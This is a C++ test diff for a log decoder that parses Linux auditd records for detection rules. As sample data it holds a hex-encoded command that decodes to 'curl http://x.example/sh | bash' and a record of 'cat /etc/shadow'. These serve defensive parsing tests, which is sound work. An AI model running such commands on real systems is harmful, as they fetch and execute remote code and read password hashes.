@@ -683,6 +683,71 @@ TEST(FtpTest, VsftpdOwnLog) {
   EXPECT_EQ(G(n, "process.name"), "<absent>");
 }
 
+TEST(AuditdTest, SyscallExecveAndUserRecords) {
+  Event sc =
+      D("type=SYSCALL msg=audit(1764324000.123:456): arch=c000003e syscall=41 success=yes exit=3 "
+        "a0=26 a1=80005 items=0 ppid=1 pid=2345 auid=1000 uid=0 comm=\"python3\" "
+        "exe=\"/usr/bin/python3.11\" key=\"af_alg_detect\"\x1d"
+        "ARCH=x86_64 SYSCALL=socket AUID=\"alice\" UID=\"root\"");
+  EXPECT_EQ(G(sc, "type"), "SYSCALL");
+  EXPECT_EQ(G(sc, "syscall"), "41");
+  EXPECT_EQ(G(sc, "SYSCALL"), "socket");  // the ENRICHED part after 0x1d
+  EXPECT_EQ(G(sc, "a0"), "26");           // a number in hex, not a string
+  EXPECT_EQ(G(sc, "exe"), "/usr/bin/python3.11");
+  EXPECT_EQ(G(sc, "process.executable"), "/usr/bin/python3.11");
+  EXPECT_EQ(G(sc, "process.name"), "python3");
+  EXPECT_EQ(G(sc, "key"), "af_alg_detect");
+  EXPECT_EQ(G(sc, "AUID"), "alice");
+  EXPECT_EQ(G(sc, "auditd.log.sequence"), "456");
+  EXPECT_EQ(G(sc, "@timestamp"), "2025-11-28T10:00:00.123Z");
+  EXPECT_EQ(sc.products, std::vector<std::string>{"linux"});
+  EXPECT_EQ(sc.services, std::vector<std::string>{"auditd"});
+
+  // EXECVE arguments holding a space are hex; decoded to the text Sigma rules match.
+  Event ex =
+      D("type=EXECVE msg=audit(1764324001.000:458): argc=3 a0=\"bash\" a1=\"-c\" "
+        "a2=6375726C20687474703A2F2F782E6578616D706C652F7368207C2062617368");
+  EXPECT_EQ(G(ex, "a0"), "bash");
+  EXPECT_EQ(G(ex, "a2"), "curl http://x.example/sh | bash");
+  Event pt = D("type=PROCTITLE msg=audit(1764324001.000:458): proctitle=6C73002D6C61");
+  EXPECT_EQ(G(pt, "proctitle"), "ls -la");  // arguments separated by NUL
+
+  // User-space records nest their list in msg='...'.
+  Event ua =
+      D("type=USER_AUTH msg=audit(1764324002.000:459): pid=900 uid=0 auid=4294967295 "
+        "msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" "
+        "hostname=198.51.100.1 addr=198.51.100.1 terminal=ssh res=failed'\x1dUID=\"root\"");
+  EXPECT_EQ(G(ua, "op"), "PAM:authentication");
+  EXPECT_EQ(G(ua, "acct"), "root");
+  EXPECT_EQ(G(ua, "user.name"), "root");
+  EXPECT_EQ(G(ua, "source.ip"), "198.51.100.1");
+  EXPECT_EQ(G(ua, "event.outcome"), "failure");
+  EXPECT_EQ(G(ua, "res"), "failed");
+  EXPECT_EQ(G(ua, "UID"), "root");
+
+  // (null), '?' and lower-case hex-looking words stay as written.
+  Event n =
+      D("type=SYSCALL msg=audit(1764324003.000:460): syscall=59 comm=\"split\" key=(null) "
+        "addr=? name=deadbeef");
+  EXPECT_EQ(G(n, "key"), "(null)");
+  EXPECT_EQ(G(n, "source.ip"), "<absent>");
+  EXPECT_EQ(G(n, "name"), "deadbeef");
+
+  // Through syslog (audispd's plugin), with the node name first.
+  Event sl =
+      D("Nov 28 11:02:00 web1 audispd: node=web1 type=EXECVE msg=audit(1764320520.123:812): "
+        "argc=2 a0=\"cat\" a1=\"/etc/shadow\"");
+  EXPECT_EQ(G(sl, "node"), "web1");
+  EXPECT_EQ(G(sl, "type"), "EXECVE");
+  EXPECT_EQ(G(sl, "a1"), "/etc/shadow");
+  EXPECT_NE(std::find(sl.services.begin(), sl.services.end(), "auditd"), sl.services.end());
+
+  // Not an audit record: left to the message fallback.
+  Event bad = D("type=SYSCALL msg=audit(garbage): x=1");
+  EXPECT_EQ(G(bad, "type"), "<absent>");
+  EXPECT_TRUE(bad.services.empty());
+}
+
 TEST(WebErrorTest, Apache24Apache22Nginx) {
   Event a =
       D("[Sat Nov 28 10:55:00.123456 2026] [core:error] [pid 1234:tid 140] [client "
@@ -781,6 +846,9 @@ TEST(DecoderRobustnessTest, RandomAndMutatedLines) {
       "COMMAND=/bin/bash",
       "[Sat Nov 28 10:55:01 2026] [error] [client 198.51.100.3] File does not exist: /var/www/x",
       R"({"Event":{"System":{"EventID":1},"EventData":{"Image":"x"}}})",
+      "type=USER_AUTH msg=audit(1764324002.000:459): pid=900 msg='op=PAM:authentication "
+      "acct=\"root\" addr=198.51.100.1 res=failed'\x1dUID=\"root\" a1=2F746D70",
+      "Nov 28 10:00:13 h proftpd[500]: h (198.51.100.13[198.51.100.13]) - USER a (Login failed): x",
   };
   uint64_t state = 0x9e3779b97f4a7c15ULL;
   auto next = [&] {
